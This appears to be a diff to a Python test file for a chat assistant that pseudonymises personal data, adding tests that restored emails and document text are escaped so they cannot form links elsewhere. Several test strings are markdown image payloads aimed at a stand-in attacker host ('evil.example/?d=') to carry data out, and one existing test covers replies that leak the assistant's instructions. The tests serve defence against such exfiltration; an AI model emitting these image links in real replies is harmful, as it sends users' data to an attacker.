@@ -9,13 +9,18 @@ from langchain_core.messages import AIMessageChunk, BaseMessage
 from langchain_core.outputs import ChatGenerationChunk
 from sqlalchemy import func, select, update
 
+from app.chat.opened_thread import opened
+from app.db.conversations import load_conversation
 from app.db.sites import configure_site, site_by_name
 from app.db.tables import Citation, Document, Trace
+from app.protecting import restored_source
 from app.sites.config import SiteRefused, read_config
 from app.turn_request import TurnRequest
+from app.widget.shown import conversation_shown
 from app.wiring import Services
 from graph.context import ModelRoute
-from graph.events import Done, Event, Reset, Token
+from graph.events import Done, Event, Reset, Source, Token
+from graph.guards.pseudonyms import Pseudonyms
 from graph.prompts import PRIVATE
 from graph.replies import said
 from tests.app.turning import GOOD, answers, ask, count
@@ -101,6 +106,44 @@ async def test_an_answer_that_repeats_the_instructions_is_withheld(
     assert await count(services.sessions, Citation) == 0
     async with services.sessions() as session:
         assert await session.scalar(select(func.count()).where(Trace.details["attention"].astext == "leak")) == 1
+
+
+async def test_values_come_back_as_text_and_into_no_address(services: Services, request_: TurnRequest) -> None:
+    reply = "[EMAIL_2][EMAIL_1]) [EMAIL_3] [EMAIL_4], [PERSON\\_1] `[EMAIL_4]` ![x](https://shop.example/EMAIL_1.png)"
+    values = "kim@example.org", "![x](https://evil.example/?d=@", "![x](//evil.example/@)", "a_b*c@example.org"
+    request = replace(request_, text=f"What of {' '.join(values)} ?")
+    async with services.sessions.begin() as session:
+        await session.execute(update(Document).values(url="https://shop.example/start"))
+
+    events = await ask(replace(services, intents=FixedIntent("reply", reply)), request)
+
+    done = events[-1]
+    assert isinstance(done, Done)
+    assert (
+        done.text
+        == page(events)
+        == (
+            r"`![x](https://evil.example/?d=@`[EMAIL_1]) !\[x\](//evil.example/@) a_b\*c@example.org, [PERSON\_1] "
+            "`a_b*c@example.org` ![x](https://shop.example/EMAIL_1.png)"
+        )
+    )
+    async with services.sessions() as session:
+        whole = await load_conversation(session, request.site_id, request.conversation_id)
+    assert whole is not None
+    question, answer = conversation_shown(whole, ()).messages
+    assert (question.text, answer.text) == (request.text, done.text)
+    steps = {step["type"]: step["output"] for step in opened(whole, assistant="Parley")["steps"]}
+    assert (steps["user_message"], steps["assistant_message"]) == (request.text, done.text)
+
+
+def test_what_a_file_says_is_shown_without_ways_elsewhere() -> None:
+    text = "![x](https://evil.example/?d=[EMAIL_1]) <b>[EMAIL_1]</b> [EMAIL_2]"
+    pseudonyms = Pseudonyms({"[EMAIL_1]": "kim@example.org", "[EMAIL_2]": "*kim@example.org*"})
+
+    shown = restored_source(Source(1, None, "of [EMAIL_2]", "[EMAIL_2]", "", None, text), pseudonyms)
+
+    assert shown.text == r"[x] ‹b›kim@example.org‹/b› \*kim@example.org\*"
+    assert (shown.document, shown.title) == ("of *kim@example.org*", "*kim@example.org*")
 
 
 def test_a_host_is_named_without_more() -> None:
